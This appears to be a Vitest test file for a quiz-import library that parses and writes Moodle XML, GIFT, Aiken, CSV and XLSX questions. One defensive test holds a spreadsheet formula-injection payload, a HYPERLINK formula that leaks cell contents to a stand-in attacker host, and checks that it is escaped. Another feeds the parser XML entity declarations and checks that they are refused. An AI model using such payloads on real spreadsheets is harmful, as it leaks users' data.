import fs from 'node:fs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { parseAiken } from './aiken.js';
import { parseTemplateCsv, parseTemplateXlsx, TEMPLATE_COLUMNS, writeTemplateCsv, writeTemplateXlsx } from './csv-template.js';
import { EXAMPLE_QUESTIONS } from './examples.js';
import { parseGift } from './gift.js';
import { detectFormat, parseQuestionFile } from './index.js';
import { parseMoodleXml, writeMoodleXml } from './moodle-xml.js';
import { UnreadableFileError, type FormatQuestion, type ParsedItem } from './types.js';

const fixture = (name: string) => fs.readFileSync(new URL(`./fixtures/${name}`, import.meta.url));
const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';

const errorsOf = (item: ParsedItem) => item.issues.filter((i) => !i.isWarning).map((i) => i.field);

/** Questions that use every field a file carries, in one or both languages. */
const ROUND_TRIP: FormatQuestion[] = [
  ...EXAMPLE_QUESTIONS,
  {
    topics: ['Optics', 'Waves'],
    draft: {
      questionType: 'image',
      difficulty: 'hard',
      tags: ['diagram', 'ray & lens'],
      contentType: 'html',
      mediaUrl: PNG,
      defaultLanguage: 'tn',
      marks: 3,
      negativeMarks: 1,
      allowsPartialCredit: false,
      numericTolerance: null,
      lineNumber: null,
      correctAnswerId: 3,
      correctAnswerData: null,
      solution: 'Use the lens formula: 1/f = 1/v − 1/u.',
      texts: {
        tn: {
          title: 'வில்லை',
          data: '<p>படத்தில் உள்ள <b>வில்லையின்</b> குவியத் தூரம் என்ன?</p>',
          hint: 'சூத்திரம்',
          explanation: null,
          instructions: 'படத்தைப் பார்க்கவும்.',
          answerTitle: 'விடை',
          options: [
            { answerID: 1, answerData: '10 செ.மீ' },
            { answerID: 3, answerData: '20 செ.மீ' },
            { answerID: 4, answerData: '<i>∞</i>' },
          ],
        },
        en: {
          title: 'Lens',
          data: '<p>What is the focal length of the <b>lens</b> shown? Use 1 < 2 & "quotes"</p>',
          hint: null,
          explanation: 'Parallel rays meet at 20 cm.',
          instructions: null,
          answerTitle: null,
          options: [
            { answerID: 1, answerData: '10 cm' },
            { answerID: 3, answerData: '20 cm' },
            { answerID: 4, answerData: '<i>∞</i>' },
          ],
        },
      },
    },
  },
  {
    topics: [],
    draft: {
      questionType: 'text',
      difficulty: 'medium',
      tags: [],
      contentType: 'text',
      mediaUrl: 'https://cdn.example.org/v/intro.mp4',
      defaultLanguage: 'en',
      marks: 1.5,
      negativeMarks: 0.25,
      allowsPartialCredit: true,
      numericTolerance: 0.01,
      lineNumber: null,
      correctAnswerId: null,
      correctAnswerData: [{ value: 'a;b|c±d\\e', alternatives: ['x}y~z#w=v:%'] }],
      solution: null,
      texts: { en: { title: '', data: 'Type the escaped text {0}\nover two lines.', hint: null, explanation: null, instructions: null, answerTitle: null } },
    },
  },
  {
    topics: ['Optics'],
    draft: {
      questionType: 'singleChoice',
      difficulty: 'easy',
      tags: ['numeric'],
      contentType: 'text',
      mediaUrl: null,
      defaultLanguage: 'en',
      marks: 3,
      negativeMarks: 1,
      allowsPartialCredit: false,
      numericTolerance: null,
      lineNumber: null,
      correctAnswerId: 1,
      correctAnswerData: null,
      solution: null,
      texts: {
        en: { title: 'Third', data: 'One third of 3 is', hint: null, explanation: null, instructions: null, answerTitle: null, options: [{ answerID: 1, answerData: '1' }, { answerID: 2, answerData: '2' }] },
      },
    },
  },
];

const questionsOf = (items: ParsedItem[]) => {
  for (const item of items) expect(item.issues, `item at line ${item.line}`).toEqual([]);
  return items.map((item) => item.question);
};

describe('round trips: export, import, the same content in both languages', () => {
  it('Moodle XML', () => {
    const xml = writeMoodleXml(ROUND_TRIP);
    expect(detectFormat(Buffer.from(xml))).toBe('moodleXml');
    expect(questionsOf(parseMoodleXml(xml))).toEqual(ROUND_TRIP);
  });

  it('CSV', () => {
    const csv = writeTemplateCsv(ROUND_TRIP);
    expect(detectFormat(Buffer.from(csv))).toBe('csv');
    expect(questionsOf(parseTemplateCsv(csv))).toEqual(ROUND_TRIP);
  });

  it('CSV with cells a spreadsheet would run as formulas: written with a leading quote, read back as they were', () => {
    const base = EXAMPLE_QUESTIONS[0]!;
    const tricky = ['=HYPERLINK("http://evil.example/?leak="&C2,"x")', '+1+2', '-5', '@SUM(A1)', '-1 is the title', "'=quoted already", "it's fine"];
    const question: FormatQuestion = {
      ...base,
      draft: { ...base.draft, texts: { en: { ...base.draft.texts.en!, data: tricky[0]!, hint: tricky[1]!, explanation: tricky[2]!, instructions: tricky[3]!, title: tricky[4]!, answerTitle: tricky[5]!, options: base.draft.texts.en!.options?.map((o, i) => (i === 0 ? { ...o, answerData: tricky[6]! } : o)) } } },
    };
    const csv = writeTemplateCsv([question]);
    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain("''=quoted already");
    expect(questionsOf(parseTemplateCsv(csv))).toEqual([question]);
  });

  it('XLSX', async () => {
    const xlsx = await writeTemplateXlsx(ROUND_TRIP);
    expect(detectFormat(xlsx)).toBe('xlsx');
    expect(questionsOf(await parseTemplateXlsx(xlsx))).toEqual(ROUND_TRIP);
  });

  it('writes Moodle’s own elements so Moodle reads the file too', () => {
    const xml = writeMoodleXml(ROUND_TRIP);
    expect(xml).toContain('<question type="category">');
    expect(xml).toContain('<text>$course$/top/Cell Biology</text>');
    expect(xml).toContain('{mlang ta}செல்லின் ஆற்றல் மையம்{mlang}');
    expect(xml).toContain('<question type="multianswer">');
    expect(xml).toContain('{1:NUMERICAL:=100:0.5}');
    expect(xml).toContain('<file name="picture-6.png" path="/" encoding="base64">');
    expect(xml).toContain('<question type="numerical">');
    expect(xml).toContain('<answer fraction="-25"');
    expect(xml).toContain('<responsefieldlines>10</responsefieldlines>');
  });
});

describe('Moodle XML', () => {
  const items = parseMoodleXml(fixture('moodle.xml').toString('utf8'));

  it('reads choice, true/false, short answer, numerical, essay and cloze with their keys, marks and topics', () => {
    expect(items.map((i) => i.question?.draft.questionType ?? null)).toEqual([
      'singleChoice',
      'multipleChoice',
      'singleChoice',
      'text',
      'numerical',
      'comprehensive',
      'text',
      null,
      null,
    ]);
    const [single, multiple, trueFalse, short, numerical, essay, cloze] = items.map((i) => i.question!);
    expect(single!.topics).toEqual(['Cell Biology']);
    expect(single!.draft).toMatchObject({ marks: 4, negativeMarks: 1, correctAnswerId: 2, contentType: 'html', tags: ['neet'] });
    expect(single!.draft.texts.en).toMatchObject({ title: 'Powerhouse', data: '<p>Which organelle is shown and makes most ATP?</p>', explanation: '<p>Mitochondria make ATP.</p>' });
    expect(single!.draft.mediaUrl).toBe(PNG);
    expect(multiple!.draft).toMatchObject({ correctAnswerId: [1, 2], negativeMarks: 1, allowsPartialCredit: true, marks: 2 });
    expect(multiple!.draft.texts.tn?.options?.map((o) => o.answerData)).toEqual(['மைட்டோகாண்ட்ரியன்', 'உட்கரு', 'ரைபோசோம்']);
    expect(multiple!.draft.texts.tn?.title).toBe('இரட்டைச் சவ்வு');
    expect(trueFalse!.draft).toMatchObject({ correctAnswerId: 1, texts: { en: { options: [{ answerData: 'True' }, { answerData: 'False' }] } } });
    expect(short!.draft).toMatchObject({ correctAnswerData: [{ value: 'H2O', alternatives: ['H₂O'] }], texts: { en: { data: 'The chemical formula of water is {0}' } } });
    expect(numerical!.draft.correctAnswerData).toEqual({ value: 100, tolerance: 0.5 });
    expect(numerical!.draft.texts.en?.data).toBe('Water boils at how many °C at sea level?');
    expect(essay!.draft).toMatchObject({ lineNumber: 12, correctAnswerData: 'Light and dark reactions.' });
    expect(cloze!.draft).toMatchObject({
      correctAnswerData: [{ value: 'C6H12O6' }, { value: '6', tolerance: 0 }],
      texts: { en: { data: '<p>Glucose is {0} and has {0} carbon atoms.</p>' } },
    });
  });

  it('reports what the player cannot show, per question with its line', () => {
    expect(items[7]).toMatchObject({ title: 'Cloze with a menu', question: null, line: 98 });
    expect(items[7]!.issues[0]!.message.en).toContain('MULTICHOICE');
    expect(items[7]!.issues[0]!.message.tn).toContain('MULTICHOICE');
    // A matching question without subquestions has no lists: its own error.
    expect(items[8]).toMatchObject({ title: 'Match', question: null, issues: [{ field: 'texts.options' }] });
    expect(items[8]!.issues[0]!.message.en).toContain('matching question');
  });

  it('refuses a file that is not well-formed, naming the line', () => {
    let error: unknown;
    try {
      parseMoodleXml(fixture('broken.xml').toString('utf8'));
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(UnreadableFileError);
    expect((error as UnreadableFileError).line).toBe(5);
    expect((error as UnreadableFileError).reason.en).toContain("closing tag 'name'");
  });

  it('refuses DOCTYPE and entity declarations, but reads such words inside CDATA and comments', () => {
    const quiz = (prolog: string, text: string) => `<?xml version="1.0"?>${prolog}<quiz><!-- <!DOCTYPE in a comment --><question type="essay"><name><text>n</text></name><questiontext format="html"><text>${text}</text></questiontext></question></quiz>`;
    expect(() => parseMoodleXml(quiz('<!DOCTYPE quiz [<!ENTITY b "bee">]>', '&b;'))).toThrow(UnreadableFileError);
    expect(() => parseMoodleXml(quiz('', '<!ENTITY b "bee">'))).toThrow(UnreadableFileError);
    const [item] = parseMoodleXml(quiz('', '<![CDATA[<p>HTML starts with <!DOCTYPE html></p>]]>'));
    expect(item!.question!.draft.texts.en?.data).toContain('<!DOCTYPE html>');
  });

  it('reports a picture that is missing from the file and keeps only the first picture', () => {
    const xml = `<quiz><question type="multichoice"><name><text>P</text></name>
      <questiontext format="html"><text><![CDATA[<p>A</p><img src="@@PLUGINFILE@@/gone.png">]]></text></questiontext>
      <single>true</single><answer fraction="100"><text>x</text></answer><answer fraction="0"><text>y</text></answer></question>
      <question type="multichoice"><name><text>Q</text></name>
      <questiontext format="html"><text><![CDATA[<img src="@@PLUGINFILE@@/a.png"><img src="@@PLUGINFILE@@/b.png">]]></text>
      <file name="a.png" encoding="base64">AAAA</file><file name="b.png" encoding="base64">BBBB</file></questiontext>
      <single>true</single><answer fraction="100"><text>x</text></answer><answer fraction="0"><text>y</text></answer></question></quiz>`;
    const [missing, two] = parseMoodleXml(xml);
    expect(errorsOf(missing!)).toEqual(['mediaUrl']);
    expect(missing!.issues[0]!.message.en).toContain('gone.png');
    expect(errorsOf(two!)).toEqual([]);
    expect(two!.issues).toMatchObject([{ field: 'mediaUrl', isWarning: true }]);
    expect(two!.question!.draft.mediaUrl).toBe('data:image/png;base64,AAAA');
  });
});

describe('GIFT', () => {
  const items = parseGift(fixture('questions.gift').toString('utf8'));

  it('reads each question with its line, kind, key and category', () => {
    expect(items.map((i) => [i.line, i.question?.draft.questionType ?? null])).toEqual([
      [4, 'singleChoice'],
      [10, 'multipleChoice'],
      [16, 'singleChoice'],
      [18, 'text'],
      [20, 'text'],
      [22, 'comprehensive'],
      [24, null],
      [26, 'matching'],
    ]);
    expect(items[0]!.question).toMatchObject({ topics: ['Cell Biology'], draft: { correctAnswerId: 2, texts: { en: { title: 'Powerhouse' } } } });
    expect(items[1]!.question!.draft).toMatchObject({ correctAnswerId: [1, 2], negativeMarks: 1, allowsPartialCredit: true });
    expect(items[4]!.question!.draft).toMatchObject({ correctAnswerData: [{ value: '100', tolerance: 0.5 }], texts: { en: { data: 'Water boils at {0} °C at sea level.' } } });
  });

  it('gives a broken question its own error and reads the ones after it', () => {
    expect(items[6]!.issues[0]!.message.en).toMatch(/could not be read: Expected/);
    expect(items[7]!.issues).toEqual([]);
    expect(items[7]!.question!.draft.correctAnswerData).toEqual({ presentation: 'pairs', pairs: [{ left: 101, right: 201 }, { left: 102, right: 202 }] });
  });
});

describe('Aiken', () => {
  it('reads single-choice questions and reports a missing or wrong answer line', () => {
    const buffer = fixture('questions.aiken.txt');
    expect(detectFormat(buffer)).toBe('aiken');
    const items = parseAiken(buffer.toString('utf8'));
    expect(items).toHaveLength(4);
    expect(items[1]!.question!.draft).toMatchObject({
      correctAnswerId: 2,
      texts: { en: { data: 'Which gas do plants take in for photosynthesis?', options: [{ answerData: 'Oxygen' }, { answerData: 'Carbon dioxide' }, { answerData: 'Nitrogen' }] } },
    });
    expect(items[2]).toMatchObject({ line: 13, question: null });
    expect(items[2]!.issues[0]!.message.en).toContain('"E"');
    expect(items[3]).toMatchObject({ line: 18, question: null });
    expect(items[3]!.issues[0]!.message.en).toContain('ANSWER');
  });
});

describe('CSV and XLSX template', () => {
  it('reads the hand-made CSV fixture: both languages, letters, blanks with alternatives and tolerance', async () => {
    const items = await parseQuestionFile(fixture('questions.csv'), 'csv');
    const [single, multiple, text, written] = questionsOf(items);
    expect(single!.draft).toMatchObject({ correctAnswerId: 2, marks: 4, negativeMarks: 1, tags: ['neet', 'cell'] });
    expect(single!.draft.texts.tn?.options?.[1]?.answerData).toBe('மைட்டோகாண்ட்ரியன்');
    expect(single!.topics).toEqual(['Cell Biology']);
    expect(multiple!.draft.correctAnswerId).toEqual([1, 3]);
    expect(text!.draft.correctAnswerData).toEqual([{ value: 'H2O', alternatives: ['water'] }, { value: '100', tolerance: 0.5 }]);
    expect(written!.draft).toMatchObject({ lineNumber: 10, correctAnswerData: 'Light and dark reactions.' });
  });

  it('gives each bad row its errors with the row number', () => {
    const items = parseTemplateCsv(fixture('bad-rows.csv').toString('utf8'));
    expect(items.map((i) => [i.line, errorsOf(i)])).toEqual([
      [2, ['correctAnswerId']],
      [3, ['questionType']],
      [4, ['difficulty', 'marks']],
      [5, []],
    ]);
  });

  it('refuses a header with an unknown column', () => {
    expect(() => parseTemplateCsv('kind,statement_en,colour\nsingleChoice,x,red\n')).toThrow(UnreadableFileError);
  });

  it('documents every column of the table in the module README', () => {
    const readme = fs.readFileSync(new URL('../README.md', import.meta.url), 'utf8');
    for (const column of TEMPLATE_COLUMNS) expect(readme, column.key).toContain(`\`${column.key}\``);
  });
});

describe('format detection', () => {
  it('tells the formats apart by content', () => {
    expect(detectFormat(fixture('moodle.xml'))).toBe('moodleXml');
    expect(detectFormat(fixture('questions.gift'))).toBe('gift');
    expect(detectFormat(fixture('bad-rows.csv'))).toBe('csv');
    expect(detectFormat(Buffer.from('just some words'))).toBeNull();
  });
});
